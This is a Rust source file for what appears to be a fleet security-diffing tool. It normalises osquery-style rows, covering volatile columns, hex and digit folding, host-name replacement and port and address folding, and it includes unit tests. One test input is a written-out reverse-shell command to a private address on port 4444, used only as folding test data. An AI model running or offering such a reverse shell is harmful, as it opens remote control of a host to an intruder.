//! Normalisation per query: which columns identify a row, which are per-host
//! noise, and how values are folded before rows are compared across hosts.
//!
//! Rows are compared as *normalised keys*: the non-volatile columns, with
//! values folded so that per-host noise does not make every host unique:
//!
//! - volatile columns are dropped: those the query declares, plus columns whose
//!   names say they change all the time (`pid`, `parent`, `*_time`, `mtime`,
//!   `resident_size`, `threads`, ...), unless they are identity columns;
//! - the host's own id and hostname are replaced by `<host>` wherever they appear;
//! - in name-like columns (process names and command lines, cron commands and
//!   schedules, startup item names, key comments), long hex runs become `<hex>`
//!   and runs of digits become `#` (`worker-17` → `worker-#`);
//! - listening ports: ports of the ephemeral range (32768 and up) become
//!   `ephemeral`; addresses other than wildcard and loopback become `<addr>`.
//!
//! Security indicators are always evaluated on the original values.

use std::collections::BTreeSet;

use diffy_core::Query;

/// The standard queries whose meaning the analysis knows.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum QueryKind {
    /// `processes`
    Processes,
    /// `listening_ports`
    ListeningPorts,
    /// `crontab`
    Crontab,
    /// `kernel_modules`
    KernelModules,
    /// `users`
    Users,
    /// `authorized_keys`
    AuthorizedKeys,
    /// `file_hashes`
    FileHashes,
    /// `shell_history`
    ShellHistory,
    /// `suid_bin`
    SuidBin,
    /// `startup_items`
    StartupItems,
    /// `persistence`: the files where persistence lives, that differ from a
    /// stock host.
    Persistence,
    /// `loaded_code`
    LoadedCode,
    /// `file_capabilities`
    FileCapabilities,
    /// `temp_files`
    TempFiles,
    /// `shadow`
    Shadow,
    /// `hidden_processes`
    HiddenProcesses,
    /// `package_integrity` (the deep pack): packaged files that differ from
    /// the package database.
    PackageIntegrity,
    /// Any other query: generic normalisation and indicators.
    Other,
}

impl QueryKind {
    /// The kind of a query by its name.
    pub fn of(name: &str) -> Self {
        match name {
            "processes" => QueryKind::Processes,
            "listening_ports" => QueryKind::ListeningPorts,
            "crontab" => QueryKind::Crontab,
            "kernel_modules" => QueryKind::KernelModules,
            "users" => QueryKind::Users,
            "authorized_keys" => QueryKind::AuthorizedKeys,
            "file_hashes" => QueryKind::FileHashes,
            "shell_history" => QueryKind::ShellHistory,
            "suid_bin" => QueryKind::SuidBin,
            "startup_items" => QueryKind::StartupItems,
            "persistence" => QueryKind::Persistence,
            "loaded_code" => QueryKind::LoadedCode,
            "file_capabilities" => QueryKind::FileCapabilities,
            "temp_files" => QueryKind::TempFiles,
            "shadow" => QueryKind::Shadow,
            "hidden_processes" => QueryKind::HiddenProcesses,
            "package_integrity" => QueryKind::PackageIntegrity,
            _ => QueryKind::Other,
        }
    }

    /// The contribution of one fully rare row of this query, before indicators,
    /// unless the query declares its own weight. See the crate documentation.
    pub fn default_weight(self) -> f64 {
        match self {
            QueryKind::Processes => 1.0,
            QueryKind::ListeningPorts => 2.0,
            QueryKind::Crontab => 2.5,
            QueryKind::KernelModules => 6.0,
            QueryKind::Users => 4.0,
            QueryKind::AuthorizedKeys => 4.0,
            QueryKind::FileHashes => 3.0,
            QueryKind::ShellHistory => 0.5,
            QueryKind::SuidBin => 3.0,
            QueryKind::StartupItems => 2.0,
            // In an immutable fleet a persistence file on one host alone is
            // the strongest signal there is: it reaches the threshold by itself.
            QueryKind::Persistence => 5.0,
            QueryKind::LoadedCode => 4.0,
            QueryKind::FileCapabilities => 5.0,
            QueryKind::TempFiles => 3.0,
            QueryKind::Shadow => 3.0,
            QueryKind::HiddenProcesses => 6.0,
            QueryKind::PackageIntegrity => 3.0,
            QueryKind::Other => 1.0,
        }
    }

    /// Columns whose values are folded (digits, hex runs).
    fn folded(self) -> &'static [&'static str] {
        match self {
            QueryKind::Processes => &["name", "cmdline"],
            QueryKind::ListeningPorts => &["name"],
            QueryKind::Crontab => &["minute", "hour", "command"],
            QueryKind::AuthorizedKeys => &["comment"],
            QueryKind::StartupItems => &["name"],
            // Temporary names (`/tmp/.X1024-lock`, `jna-4711/`) differ per host.
            QueryKind::TempFiles => &["path"],
            QueryKind::LoadedCode => &["name", "value"],
            _ => &[],
        }
    }

    /// Columns that never enter the comparison for this kind, whatever the
    /// query declares: they only describe (osquery's many resource columns).
    fn ignored(self) -> &'static [&'static str] {
        match self {
            QueryKind::Processes => {
                &["on_disk", "state", "nice", "cwd", "root", "euid", "egid", "suid", "sgid", "gid", "pgroup"]
            }
            QueryKind::ListeningPorts => &["fd", "socket", "net_namespace", "family"],
            QueryKind::KernelModules => &["status"],
            _ => &[],
        }
    }
}

/// Column names that change on every host or every run for no security reason.
fn volatile_by_name(column: &str) -> bool {
    const EXACT: &[&str] = &[
        "pid",
        "ppid",
        "parent",
        "pgroup",
        "tgid",
        "sid",
        "fd",
        "socket",
        "inode",
        "time",
        "uptime",
        "elapsed",
        "etime",
        "threads",
        "nice",
        "resident_size",
        "total_size",
        "phys_footprint",
        "wired_size",
        "rss",
        "vsz",
        "user_time",
        "system_time",
        "disk_bytes_read",
        "disk_bytes_written",
        "cpu",
        "pcpu",
        "pmem",
        "mtime",
        "atime",
        "ctime",
        "btime",
        "timestamp",
        "start_time",
        "starttime",
        "boot_time",
        "last_seen",
        "unix_time",
        "datetime",
        "counter",
        "refcount",
    ];
    let c = column.to_ascii_lowercase();
    EXACT.contains(&c.as_str()) || c.ends_with("_time") || c.ends_with("_at") || c.ends_with("_ts")
}

/// How a column takes part in comparisons.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ColumnRole {
    /// Compared at all (not volatile).
    pub compared: bool,
    /// Part of the identity.
    pub identity: bool,
    /// Numbers folded.
    pub folded: bool,
    /// Ports and addresses of listeners.
    pub special: bool,
}

/// How one query's rows are normalised and weighed.
#[derive(Clone, Debug)]
pub struct Profile {
    /// The query's name.
    pub name: String,
    /// What the analysis knows of it.
    pub kind: QueryKind,
    /// Identity columns; empty: all compared columns.
    pub identity: Vec<String>,
    /// Declared volatile columns.
    pub volatile: BTreeSet<String>,
    /// Weight of a fully rare row.
    pub weight: f64,
}

impl Profile {
    /// The profile of `query` (identity, volatile columns and weight as
    /// declared; defaults from the query's kind).
    pub fn of(query: &Query) -> Self {
        let kind = QueryKind::of(&query.name);
        Self {
            name: query.name.clone(),
            kind,
            identity: query.identity.clone(),
            volatile: query.volatile.iter().cloned().collect(),
            weight: query.weight.unwrap_or_else(|| kind.default_weight()),
        }
    }

    /// For a query the payload does not describe (imported evidence): the
    /// standard pack's description when the name is standard, else defaults.
    pub fn by_name(name: &str) -> Self {
        match diffy_core::payload::standard_query_named(name) {
            Some(q) => Self::of(&q),
            None => Self {
                name: name.to_string(),
                kind: QueryKind::Other,
                identity: Vec::new(),
                volatile: BTreeSet::new(),
                weight: QueryKind::Other.default_weight(),
            },
        }
    }

    /// How `column` takes part in comparisons.
    pub fn role(&self, column: &str) -> ColumnRole {
        ColumnRole {
            compared: self.compared(column),
            identity: self.is_identity(column),
            folded: self.kind.folded().contains(&column),
            special: self.kind == QueryKind::ListeningPorts && (column == "port" || column == "address"),
        }
    }

    /// Whether `column` enters the comparison.
    pub fn compared(&self, column: &str) -> bool {
        if self.identity.iter().any(|c| c == column) {
            return true;
        }
        !(self.volatile.contains(column) || self.kind.ignored().contains(&column) || volatile_by_name(column))
    }

    /// Whether `column` is part of the identity.
    pub fn is_identity(&self, column: &str) -> bool {
        self.identity.is_empty() || self.identity.iter().any(|c| c == column)
    }

    /// Whether identity is a strict part of the compared columns (so a row can
    /// be "the same thing, changed").
    pub fn has_partial_identity(&self) -> bool {
        !self.identity.is_empty()
    }

    /// The normalised form of `value` in `column`, written to `out`.
    pub fn normalise_into(&self, column: &str, value: &str, host: &HostNames<'_>, out: &mut String) {
        self.normalise_with(column, self.role(column), value, host, out);
    }

    /// [`Profile::normalise_into`] with the column's role already known.
    pub fn normalise_with(&self, column: &str, role: ColumnRole, value: &str, host: &HostNames<'_>, out: &mut String) {
        if role.special {
            match column {
                "port" => {
                    if value.parse::<u32>().is_ok_and(|p| p >= 32768) {
                        out.push_str("ephemeral");
                    } else {
                        out.push_str(value);
                    }
                    return;
                }
                "address" => {
                    out.push_str(fold_address(value));
                    return;
                }
                _ => {}
            }
        }
        let replaced = host.replace(value);
        let value = replaced.as_deref().unwrap_or(value);
        if role.folded {
            fold_numbers(value, out);
        } else {
            out.push_str(value);
        }
    }
}

fn fold_address(a: &str) -> &str {
    match a {
        "" | "0.0.0.0" | "::" | "*" | "127.0.0.1" | "::1" | "localhost" => a,
        a if a.starts_with("127.") => "127.x",
        _ => "<addr>",
    }
}

/// Appends `value` with hex runs of 8+ characters (with a digit and a letter)
/// replaced by `<hex>` and other digit runs by `#`.
pub fn fold_numbers(value: &str, out: &mut String) {
    let b = value.as_bytes();
    let (mut i, mut flushed) = (0, 0);
    while i < b.len() {
        let c = b[i];
        if !c.is_ascii_hexdigit() {
            i += 1;
            continue;
        }
        let mut j = i;
        let (mut digit, mut letter) = (false, false);
        while j < b.len() && b[j].is_ascii_hexdigit() {
            digit |= b[j].is_ascii_digit();
            letter |= b[j].is_ascii_alphabetic();
            j += 1;
        }
        let bounded = (i == 0 || !b[i - 1].is_ascii_alphanumeric()) && (j == b.len() || !b[j].is_ascii_alphanumeric());
        if j - i >= 8 && digit && letter && bounded {
            out.push_str(&value[flushed..i]);
            out.push_str("<hex>");
            flushed = j;
            i = j;
            continue;
        }
        if c.is_ascii_digit() {
            let mut k = i;
            while k < b.len() && b[k].is_ascii_digit() {
                k += 1;
            }
            out.push_str(&value[flushed..i]);
            out.push('#');
            flushed = k;
            i = k;
            continue;
        }
        i += 1;
    }
    out.push_str(&value[flushed..]);
}

/// A host's own names, replaced by `<host>` in row values so that a host
/// mentioning itself (`--node-name web-17`) looks like every other host.
#[derive(Clone, Debug, Default)]
pub struct HostNames<'a> {
    names: Vec<(&'a str, memchr::memmem::Finder<'a>)>,
    /// The shortest name's length: shorter values cannot contain any.
    shortest: usize,
}

impl<'a> HostNames<'a> {
    /// Names of a host: its id, and its hostname with and without domain.
    pub fn new(id: &'a str, hostname: Option<&'a str>) -> Self {
        let mut names: Vec<&'a str> = Vec::with_capacity(3);
        for n in [Some(id), hostname, hostname.and_then(|h| h.split_once('.').map(|(s, _)| s))].into_iter().flatten() {
            // Short names would match inside unrelated words.
            if n.len() >= 4 && !names.contains(&n) {
                names.push(n);
            }
        }
        names.sort_by_key(|n| std::cmp::Reverse(n.len()));
        let shortest = names.last().map_or(usize::MAX, |n| n.len());
        Self { names: names.into_iter().map(|n| (n, memchr::memmem::Finder::new(n.as_bytes()))).collect(), shortest }
    }

    fn replace(&self, value: &str) -> Option<String> {
        if value.len() < self.shortest {
            return None;
        }
        let mut out: Option<String> = None;
        for (n, finder) in &self.names {
            let cur = out.as_deref().unwrap_or(value);
            if finder.find(cur.as_bytes()).is_some() {
                out = Some(cur.replace(n, "<host>"));
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fold(s: &str) -> String {
        let mut o = String::new();
        fold_numbers(s, &mut o);
        o
    }

    #[test]
    fn folds_numbered_names_but_not_words() {
        assert_eq!(fold("worker-17"), "worker-#");
        assert_eq!(fold("kworker/0:1-events"), "kworker/#:#-events");
        assert_eq!(fold("containerd-shim -id 3f2a9c81d0e4b7aa"), "containerd-shim -id <hex>");
        assert_eq!(fold("deadbeef cafe"), "deadbeef cafe");
        assert_eq!(fold("bash -i >& /dev/tcp/10.1.2.3/4444"), "bash -i >& /dev/tcp/#.#.#.#/#");
        assert_eq!(fold("ünïcode-2"), "ünïcode-#");
    }

    #[test]
    fn ports_and_addresses() {
        let p = Profile::by_name("listening_ports");
        let h = HostNames::default();
        let n = |c: &str, v: &str| {
            let mut o = String::new();
            p.normalise_into(c, v, &h, &mut o);
            o
        };
        assert_eq!(n("port", "4444"), "4444");
        assert_eq!(n("port", "40001"), "ephemeral");
        assert_eq!(n("address", "10.0.3.7"), "<addr>");
        assert_eq!(n("address", "0.0.0.0"), "0.0.0.0");
        assert!(!p.compared("pid"));
        assert!(p.compared("port"));
    }

    #[test]
    fn host_names_are_replaced() {
        let p = Profile::by_name("processes");
        let h = HostNames::new("i-0abc1234", Some("web-17.example.com"));
        let mut o = String::new();
        p.normalise_into("cmdline", "agent --node web-17.example.com --id i-0abc1234", &h, &mut o);
        assert_eq!(o, "agent --node <host> --id <host>");
        let mut o = String::new();
        p.normalise_into("path", "/var/log/web-17/agent", &h, &mut o);
        assert_eq!(o, "/var/log/<host>/agent", "wherever the name appears, paths too");
    }

    #[test]
    fn volatile_heuristics_respect_identity() {
        let p = Profile::by_name("processes");
        assert!(!p.compared("start_time"));
        assert!(!p.compared("resident_size"));
        assert!(p.compared("cmdline"));
        let other = Profile::by_name("my_query");
        assert!(!other.compared("mtime"));
        assert!(other.compared("path"));
    }
}
